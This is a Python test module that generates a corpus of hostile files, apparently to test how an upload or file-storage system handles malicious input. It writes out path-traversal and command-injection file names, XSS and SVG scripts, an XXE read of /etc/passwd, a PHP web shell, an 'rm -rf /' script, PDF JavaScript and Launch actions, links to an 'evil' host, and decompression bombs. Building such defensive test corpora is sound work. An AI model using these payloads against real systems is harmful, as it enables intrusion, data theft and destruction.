"""The corpus of P17: files that somebody would send to hurt whoever opens, stores or lists them.

Each is made by code, the same for the same seed; `RAN` is what every script in it tries to leave behind.
"""

import bz2
import gzip
import io
import lzma
import random
import struct
import tarfile
import zlib
from collections.abc import Iterator
from dataclasses import dataclass

from tests.documents.clamd_of_test import EICAR
from tests.documents.hostile import (
    MP3,
    OGG,
    PDF,
    chunk,
    m4a,
    pdf_with,
    picture,
    png_claiming,
    wav,
    with_object_stream,
    zip_bomb,
)

HEADED = 8 + 25
"""Where the first chunk of a PNG after its header begins."""
RAN = "window.top.hostile=1;document.title='HOSTILE';alert('HOSTILE')"
SCRIPT = f"<script>{RAN}</script>".encode()
SVG = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{RAN}">'.encode() + SCRIPT + b"</svg>"
WHOLE = {
    "jpg": picture("JPEG"),
    "png": picture("PNG"),
    "webp": picture("WEBP"),
    "pdf": PDF,
    "wav": wav(),
    "m4a": m4a(),
    "mp3": MP3,
    "ogg": OGG,
}


@dataclass(frozen=True)
class Hostile:
    """One file. `family` says what is wrong with it."""

    family: str
    name: str
    content: bytes


def corpus(seed: int) -> list[Hostile]:
    """All of them, at least 300; the order is mixed, so that the first sixty are of every family."""
    drawn = random.Random(seed)
    families = (names, disguises, polyglots, bombs, pdfs, cut, lambda: mutated(drawn))
    made = [hostile for family in families for hostile in family()]
    drawn.shuffle(made)
    return made


NAMES = (
    "../../../etc/passwd.{}", "..\\..\\windows\\win.{}", "C:\\autoexec.{}", "/etc/cron.d/x.{}",
    "a/b/c.{}", "%2e%2e%2fx.{}", "a.{}\x00.exe", "a.exe\x00.{}", "photo\u202egnp.{}",
    "\u202e\u2066exe.{}", "\u200f\u061ca.{}", "a\r\nSet-Cookie: x=1\r\n.{}", "a\";filename=\"x.exe.{}",
    "a'b`c.{}", "A" * 5000 + ".{}", ".{}", "...{}", "a.{}...", "a.{}   ", "a.{}::$DATA",
    "<img src=x onerror=alert(1)>.{}", "<script>alert(1)</script>.{}", "CON.{}", "$(id).{}",
    ";rm -rf ~.{}", "=cmd|'/c calc'!A1.{}", "{{{{7*7}}}}.{}", "\ufeffa.{}", "ａ．{}", "\ud800.{}",
    "\x1b[31m.{}", "a\u2028b.{}", "\u0130.{}", "a.{}/", "a.{}?x=.exe", "صورة\u202e.{}",
)  # fmt: skip


def names() -> Iterator[Hostile]:
    """Names that leave their folder, hide their ending, or break a header, a page, a shell."""
    for rank, pattern in enumerate(NAMES):
        for extension in ("png", "pdf") if rank % 2 else ("jpg", "webp"):
            yield Hostile("name", pattern.format(extension), WHOLE[extension])
    for outer in ("html", "svg", "js", "exe", "php", "htm", "xhtml", "hta"):
        yield Hostile("double extension", f"photo.png.{outer}", WHOLE["png"])
        yield Hostile("double extension", f"photo.{outer}.png", WHOLE["png"])


def disguises() -> Iterator[Hostile]:
    """Programs, pages and archives under the endings that are taken, and under their own."""
    for kind, content in payloads().items():
        yield Hostile("as itself", f"file.{kind}", content)
        for extension in ("jpg", "png", "pdf", "webp"):
            yield Hostile("disguise", f"{kind}.{extension}", content)
    for extension in ("wav", "m4a", "mp3", "ogg"):
        yield Hostile("disguise", f"page.{extension}", b"<html>" + SCRIPT)


def payloads() -> dict[str, bytes]:
    archive = io.BytesIO()
    with tarfile.open(fileobj=archive, mode="w") as tar:
        tar.addfile(tarfile.TarInfo("../../evil"))
    return {
        "html": b'<!DOCTYPE html><html><body onload="' + RAN.encode() + b'">' + SCRIPT,
        "svg": SVG,
        "svgz": gzip.compress(SVG),
        "xml": b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
        "xhtml": b'<html xmlns="http://www.w3.org/1999/xhtml">' + SCRIPT + b"</html>",
        "mht": b"MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n" + SCRIPT,
        "js": RAN.encode(),
        "exe": b"MZ" + b"\0" * 200,
        "elf": b"\x7fELF" + b"\0" * 200,
        "class": b"\xca\xfe\xba\xbe" + b"\0" * 50,
        "swf": b"FWS\x06" + b"\0" * 50,
        "sh": b"#!/bin/sh\nrm -rf /\n",
        "php": b"<?php system($_GET['x']); ?>",
        "csv": b'=HYPERLINK("http://evil","x")\n',
        "zip": zip_bomb(),
        "gz": gzip.compress(b"\0" * 5_000_000),
        "bz2": bz2.compress(b"\0" * 5_000_000),
        "xz": lzma.compress(b"\0" * 5_000_000),
        "tar": archive.getvalue(),
        "ps": b"%!PS\n(/etc/passwd) (r) file",
        "eicar": EICAR,
        "rtf": b"{\\rtf1{\\object\\objdata 0105}}",
        "gif": b"GIF89a/*" + b"\0" * 20 + b"*/=1;" + RAN.encode(),
        "bmp": b"BM" + b"\0" * 60,
        "tiff": b"II*\0" + b"\xff" * 60,
        "empty": b"",
        "bom": b"\xef\xbb\xbf<html>" + SCRIPT,
        "utf16": "<html><script>alert(1)</script>".encode("utf-16"),
    }


def polyglots() -> Iterator[Hostile]:
    """Two files in one: a picture to us, a page or an archive to somebody else."""
    jpeg, png = WHOLE["jpg"], WHOLE["png"]
    comment = b"\xff\xfe" + struct.pack(">H", len(SCRIPT) + 2) + SCRIPT
    text = chunk(b"tEXt", b"Comment\0" + SCRIPT)
    exif = b"\xff\xe1" + struct.pack(">H", 8 + len(SVG)) + b"Exif\0\0" + SVG
    yield Hostile("polyglot", "comment.jpg", jpeg[:2] + comment + jpeg[2:])
    yield Hostile("polyglot", "exif.jpg", jpeg[:2] + exif + jpeg[2:])
    yield Hostile("polyglot", "text.png", png[:HEADED] + text + png[HEADED:])
    for name in ("jpg", "png", "webp", "pdf", "mp3", "wav"):
        whole = WHOLE[name]
        for kind, tail in (("html", b"<html>" + SCRIPT), ("zip", zip_bomb()), ("svg", SVG), ("pdf", PDF)):
            yield Hostile("polyglot", f"{kind}-after.{name}", whole + tail)
        yield Hostile("polyglot", f"html-before.{name}", b"<html>" + SCRIPT + whole)
        yield Hostile("polyglot", f"newline-before.{name}", b"\n" + whole)
    tag = b"ID3\x04\0\0\0\0" + bytes([len(SCRIPT) >> 7, len(SCRIPT) & 127]) + SCRIPT
    yield Hostile("polyglot", "tag.mp3", tag + MP3[15:])
    yield Hostile("polyglot", "gif.jpg", b"GIF89a" + jpeg)


def bombs() -> Iterator[Hostile]:
    """Small files that unpack, count or nest without end."""
    packed = zlib.compress(b"\0" * 20_000_000, 9)
    png, jpeg = WHOLE["png"], WHOLE["jpg"]
    sizes = ((65_535, 65_535), (2**31 - 1, 1), (1, 2**31 - 1), (0, 0), (12_001, 10_000))
    for width, height in sizes:
        yield Hostile("bomb", f"{width}x{height}.png", png_claiming(width, height))
    header = chunk(b"IHDR", struct.pack(">IIBBBBB", 10_000, 10_000, 8, 2, 0, 0, 0))
    yield Hostile("bomb", "rows.png", png[:8] + header + chunk(b"IDAT", packed) + chunk(b"IEND", b""))
    for kind, begin in ((b"zTXt", b"a\0\0"), (b"iCCP", b"a\0\0"), (b"iTXt", b"a\0\1\0\0\0")):
        text = chunk(kind, begin + packed)
        yield Hostile("bomb", f"{kind.decode()}.png", png[:HEADED] + text + png[HEADED:])
    yield Hostile("bomb", "chunks.png", png[:HEADED] + chunk(b"tEXt", b"a\0b") * 20_000 + png[HEADED:])
    yield Hostile("bomb", "markers.jpg", jpeg[:2] + b"\xff\xfe\0\2" * 50_000 + jpeg[2:])
    small, wide = struct.pack(">HH", 30, 40), struct.pack(">HH", 65_000, 65_000)
    yield Hostile("bomb", "wide.jpg", jpeg.replace(small, wide))
    yield Hostile("bomb", "wide.webp", webp_claiming(16_384, 16_384))
    yield Hostile("bomb", "boxes.m4a", m4a() + struct.pack(">I4s", 8, b"free") * 200_000)
    yield Hostile("bomb", "endless.ogg", OGG + b"OggS\0\0" * 50_000)
    yield Hostile("bomb", "large.png", png[:8] + b"\0" * 12_000_000)
    yield Hostile("bomb", "huge-id3.mp3", b"ID3\x04\0\0\x7f\x7f\x7f\x7f")


def webp_claiming(width: int, height: int) -> bytes:
    extended = struct.pack("<I", 0) + (width - 1).to_bytes(3, "little") + (height - 1).to_bytes(3, "little")
    body = b"WEBPVP8X" + struct.pack("<I", 10) + extended + WHOLE["webp"][12:]
    return b"RIFF" + struct.pack("<I", len(body)) + body


def pdfs() -> Iterator[Hostile]:
    """Programs in PDF, plain and hidden, and files that cost their reader time."""
    action = b"/OpenAction<</S/JavaScript/JS(app.alert(1))>>"
    entries = {
        "script": action,
        "hex": b"/OpenAction<</S/J#61vaScript/J#53(app.alert(1))>>",
        "launch": b"/OpenAction<</S/Launch/F(cmd.exe)>>",
        "rendition": b"/OpenAction<</S/Rendition/JS(app.alert(1))>>",
        "attached": b"/Names<</EmbeddedFiles<</Names[(a)<</EF<</F<</Type/EmbeddedFile>>>>>>]>>>>",
        "xfa": b"/AcroForm<</XFA(x)>>",
        "media": b"/Annots[<</Subtype/RichMedia>>]",
        "link": b"/OpenAction<</S/URI/URI(javascript:alert(1))>>",
        "submit": b"/OpenAction<</S/SubmitForm/F(http://evil)>>",
        "comment": b"\n%>>stream\n" + action + b"\n%endstream\n",
        "deep": b"/A" + b"[" * 100_000 + b"]" * 100_000,
        "streams": b"\n" + b">>stream\n" * 200_000,
        "words": b"\n" + b"stream\n" * 200_000,
    }
    for name, entry in entries.items():
        yield Hostile("pdf", f"{name}.pdf", pdf_with(entry))
    yield Hostile("pdf", "packed.pdf", with_object_stream(b"1 0 " + action))
    yield Hostile("pdf", "commented.pdf", with_object_stream(b"1 0 " + action, b"%>>stream\n"))
    yield Hostile("pdf", "across.pdf", pdf_with(b" " * (512 * 1024 - 300) + b" " * 64 + action))
    yield Hostile("pdf", "bomb.pdf", with_object_stream(b"\0" * 80_000_000))
    yield Hostile("pdf", "far.pdf", PDF.replace(b"startxref\n", b"startxref\n999999999999999999999"))


def cut() -> Iterator[Hostile]:
    for extension, whole in WHOLE.items():
        for length in (1, 4, 12, len(whole) // 2, len(whole) - 8, len(whole) - 1):
            yield Hostile("cut", f"cut-{length}.{extension}", whole[:length])


def mutated(drawn: random.Random) -> Iterator[Hostile]:
    """Whole files with a few bytes that are others."""
    for extension, whole in WHOLE.items():
        for rank in range(6):
            changed = bytearray(whole)
            for _ in range(1 + rank):
                changed[drawn.randrange(len(changed))] = drawn.randrange(256)
            yield Hostile("mutated", f"mutated-{rank}.{extension}", bytes(changed))
    yield Hostile("mutated", "noise.png", drawn.randbytes(2000))
